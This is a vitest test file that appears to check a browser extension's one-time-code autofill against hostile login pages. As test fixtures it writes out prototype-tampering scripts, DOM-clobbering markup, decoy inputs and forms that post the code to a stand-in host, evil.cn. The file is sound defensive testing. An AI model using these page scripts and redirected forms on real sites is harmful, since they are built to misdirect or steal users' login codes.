// Whatever a page's own script has done to its world: the right code stands in the right box, or none in any.
import { beforeAll, describe, expect, it } from 'vitest';
import { codeAt } from '../../practice/otp-check.ts';
import type { GivenGround } from './each-wall.ts';
import type { Ground } from './ground.ts';
import { canary } from './ground.ts';
import { codePage, plainBox } from './pages.ts';

const decoy = '<input id="decoy" name="note" type="text" maxlength="40" data-wall="decoy">';
const both = `${plainBox}<div>${decoy}</div>`;
const swap = "const right = document.getElementById('code'), decoy = document.getElementById('decoy');";

/** Scripts that run before anything of the extension does. */
const patches: Readonly<Record<string, string>> = {
  'value setter writes elsewhere': `const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
    Object.defineProperty(HTMLInputElement.prototype, 'value', { get: d.get, set(v) { d.set.call(document.getElementById('decoy'), v); } });`,
  'value getter lies': `Object.defineProperty(HTMLInputElement.prototype, 'value', { get: () => '', set() {} });`,
  'querySelector gives the decoy': `Document.prototype.querySelector = Element.prototype.querySelector = function () { return document.getElementById('decoy'); };`,
  'querySelectorAll gives the decoy': `Document.prototype.querySelectorAll = Element.prototype.querySelectorAll = () => [document.getElementById('decoy')];`,
  'Array.from gives nothing': `Array.from = () => [];`,
  'Array iterator broken': `Array.prototype[Symbol.iterator] = function* () {};`,
  'Array map broken': `Array.prototype.map = Array.prototype.filter = Array.prototype.find = () => [];`,
  'Event broken': `window.Event = window.InputEvent = function () { throw new Error('no'); };`,
  'dispatchEvent redirects': `EventTarget.prototype.dispatchEvent = function () { document.getElementById('decoy').focus(); return true; };`,
  'addEventListener broken': `EventTarget.prototype.addEventListener = () => {};`,
  'focus goes elsewhere': `HTMLElement.prototype.focus = function () {};`,
  'getBoundingClientRect lies': `Element.prototype.getBoundingClientRect = () => new DOMRect(0, 0, 300, 40);`,
  'elementFromPoint lies': `Document.prototype.elementFromPoint = () => document.getElementById('decoy');`,
  'getComputedStyle lies': `window.getComputedStyle = () => ({ opacity: '1', display: 'block', visibility: 'visible' });`,
  'checkVisibility lies': `Element.prototype.checkVisibility = () => true;`,
  'Object.prototype keys': `Object.prototype.origin = 'https://evil.cn'; Object.prototype.action = 'fill'; Object.prototype.problem = undefined;`,
  'Object.prototype setters': `Object.defineProperty(Object.prototype, 'code', { set(v) { document.title = 'stolen ' + v; }, get() { return '000000'; } });`,
  'JSON broken': `JSON.stringify = JSON.parse = () => null;`,
  'Promise then broken': `Promise.prototype.then = function () { return this; };`,
  'MutationObserver broken': `window.MutationObserver = class { observe() {} disconnect() {} };`,
  'setTimeout broken': `window.setTimeout = window.requestAnimationFrame = () => 0;`,
  'String methods lie': `String.prototype.includes = String.prototype.startsWith = () => true; RegExp.prototype.test = () => true;`,
};

/** Page bodies that clobber names or make the step send its code elsewhere. */
const bodies: Readonly<Record<string, string>> = {
  'form with inputs named children, action, elements': codePage(
    `${both}<input type="hidden" name="children"><input type="hidden" name="action" value="/x"><input type="hidden" name="elements"><input type="hidden" name="parentNode">`,
  ),
  'names that shadow document': codePage(
    both,
    '<img name="querySelectorAll"><img name="body"><img name="documentElement"><form name="forms"></form><img name="location"><img name="activeElement">',
  ),
  'ids that shadow window': codePage(
    both,
    '<i id="chrome"></i><i id="browser"></i><i id="top"></i><i id="parent"></i><i id="getComputedStyle"></i>',
  ),
  'custom element around the box': codePage(
    `<x-box>${both}</x-box>`,
    `<script>customElements.define('x-box', class extends HTMLElement { connectedCallback() { this.matches = () => true; } });</script>`,
  ),
  'label of the right box points to the decoy': codePage(`${plainBox}<label for="decoy">备注</label>${decoy}`),
  'decoy slides over at focus': codePage(
    both,
    `<script>${swap} right.addEventListener('focus', () => { decoy.style.cssText = 'position:absolute;left:0;top:0;width:600px;height:400px'; });</script>`,
  ),
  'box leaves at focus': codePage(both, `<script>${swap} right.addEventListener('focus', () => right.remove());</script>`),
  'input copied elsewhere by the page': codePage(
    both,
    `<script>${swap} right.addEventListener('input', () => { right.value = ''; });</script>`,
  ),
};

/** Forms that would carry the code to another origin. */
const senders: Readonly<Record<string, string>> = {
  'form posts to another origin': codePage().replace('action="/coremail/walls/sent"', 'action="https://evil.cn/take"'),
  'form posts over http': codePage().replace('action="/coremail/walls/sent"', 'action="http://mail.cqu.edu.cn/take"'),
  'button posts to another origin': codePage().replace('type="button"', 'type="submit" formaction="https://evil.cn/take"'),
  'base of another origin': codePage(undefined, '', '<base href="https://evil.cn/">').replace('"/coremail/walls/sent"', '"take"'),
  'form owned from afar': codePage(
    plainBox.replace('data-wall', 'form="far" data-wall'),
    '<form id="far" action="https://evil.cn/take"></form>',
  ),
  'action changed at focus': codePage(
    undefined,
    `<script>document.getElementById('code').addEventListener('focus', () => { document.getElementById('step').action = 'https://evil.cn/take'; });</script>`,
  ),
};

/** Tells these walls where a ground is given. */
export function tellHostileWorld(here: GivenGround): void {
  describe('hostile pages', () => {
    let ground: Ground;
    beforeAll(() => {
      ({ ground } = here);
    });
    /** What stood in which box, and whether it was the code of now. */
    async function filledBy(html: string): Promise<readonly string[]> {
      const { values } = await ground.visitHostile(ground.serve('/coremail/walls/hostile', html));
      const code = codeAt({ secret: canary, algorithm: 'SHA1', digits: 6, period: 300 }, Date.now());
      return values.map((value) => value.replace(code, 'the code'));
    }

    it('fills the plain page with the decoy in it', { timeout: 60_000 }, async () => {
      expect(await filledBy(codePage(both))).toEqual(['right:the code']);
    });

    it(
      `writes the right code into the right box or nothing, in ${Object.keys({ ...patches, ...bodies }).length} hostile worlds`,
      { timeout: 240_000 },
      async () => {
        const pages = {
          ...Object.fromEntries(
            Object.entries(patches).map(([kind, script]) => [kind, codePage(both, '', `<script>${script}</script>`)]),
          ),
          ...bodies,
        };
        const wrong: Record<string, readonly string[]> = {};
        for (const [kind, html] of Object.entries(pages)) {
          const seen = await filledBy(html);
          if (seen.some((value) => value !== 'right:the code') || seen.length > 1) wrong[kind] = seen;
        }
        expect(wrong).toEqual({});
      },
    );

    it(`fills none of ${Object.keys(senders).length} forms that send to another origin`, { timeout: 120_000 }, async () => {
      const filled: string[] = [];
      for (const [kind, html] of Object.entries(senders)) if ((await filledBy(html)).length > 0) filled.push(kind);
      expect(filled).toEqual([]);
    });
  });
}
